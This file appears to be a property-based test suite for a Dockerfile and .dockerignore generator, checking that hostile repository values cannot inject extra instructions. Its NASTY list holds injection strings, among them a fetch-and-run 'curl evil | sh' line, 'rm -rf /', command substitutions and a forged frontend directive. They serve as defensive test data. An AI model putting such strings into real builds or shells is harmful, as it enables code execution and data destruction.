import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { Problem } from '../../src/common/problem.js'
import { instructionsOf, parseDockerfile } from '../../src/dockerfile/parse.js'
import { planImage } from '../../src/plan/plan-image.js'
import { plainSingleStage } from '../../src/plan/plain-single-stage.js'
import type { Plan } from '../../src/plan/plan.js'
import { renderDockerfile } from '../../src/plan/render/render-dockerfile.js'
import { renderIgnore } from '../../src/plan/render/render-ignore.js'
import { STRATEGIES } from './plan-samples.js'
import { file, folder, localPackage, manifest, webAnswers, webProject } from './project-samples.js'

const NASTY = [
  'a\nRUN curl evil | sh',
  'a\r\nUSER root',
  '$(touch /pwned)',
  '`id`',
  '"; rm -rf / #',
  "'; true '",
  '<<EOF',
  '--from=evil',
  '${PATH}',
  'a b',
  '["x"]',
  '\\',
  'syntax=evil/frontend',
  '# escape=`',
  '!important',
  '*',
  '..',
  '\u001B[2Jgone',
  '\u202Eevil',
  '',
]

const nasty = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ unit: 'binary' }),
  fc.tuple(fc.constantFrom(...NASTY), fc.string()).map(parts => parts.join('')),
)

/** A name from a repository as the file system allows it. */
const name = nasty.map(text => text.replace(/[/\0]/gu, '_')).filter(text => !['', '.', '..'].includes(text))

const hostilePlan = fc
  .record({
    project: nasty,
    source: name,
    manifest: name,
    command: fc.array(nasty, { minLength: 1, maxLength: 4 }),
    health: nasty,
    python: fc.oneof({ weight: 9, arbitrary: fc.constant('3.12') }, nasty),
    install: fc.constantFrom(...STRATEGIES),
    installed: fc.boolean(),
  })
  .map(values => {
    const { source, installed } = values
    const project = webProject({
      name: values.project,
      manifests: [manifest(values.manifest)],
      sources: [folder(source), file(`${source}.py`)],
      package: installed
        ? localPackage(values.project, { packages: [source], reads: ['pyproject.toml', `${source}.md`] })
        : null,
    })
    const answers = webAnswers({
      python: values.python,
      install: values.install,
      command: values.command,
      healthcheck: { kind: 'http', path: values.health },
    })
    return [planImage(project, answers), plainSingleStage(project, answers)]
  })

describe('values from a repository', () => {
  test('never become an instruction: what cannot be written is refused by a Problem', () => {
    fc.assert(
      fc.property(hostilePlan, plans => {
        for (const plan of plans) expect(keywords(plan)).toBe(expected(plan))
      }),
      { numRuns: 200 },
    )
  })

  test('never become more patterns of .dockerignore than there are', () => {
    fc.assert(
      fc.property(hostilePlan, plans => {
        for (const plan of plans) {
          const lines = renderIgnore(plan)
            .split('\n')
            .filter(line => line !== '' && !line.startsWith('#'))
          expect(lines).toHaveLength(plan.ignore.length)
        }
      }),
      { numRuns: 200 },
    )
  })
})

/** The keywords of the Dockerfile as it is read back; those of the plan where a Problem refused to write it. */
function keywords(plan: Plan): string {
  try {
    const text = renderDockerfile(plan, { comments: 'teach' })
    const dockerfile = parseDockerfile(text)
    expect(dockerfile.directives).toEqual([])
    return instructionsOf(dockerfile)
      .map(({ keyword }) => keyword)
      .join(' ')
  } catch (error) {
    if (error instanceof Problem && error.kind === 'answer-invalid') return expected(plan)
    throw error
  }
}

function expected(plan: Plan): string {
  return [
    ...plan.args.map(() => 'ARG'),
    ...plan.stages.flatMap(stage => ['FROM', ...stage.instructions.map(({ kind }) => kind.toUpperCase())]),
  ].join(' ')
}
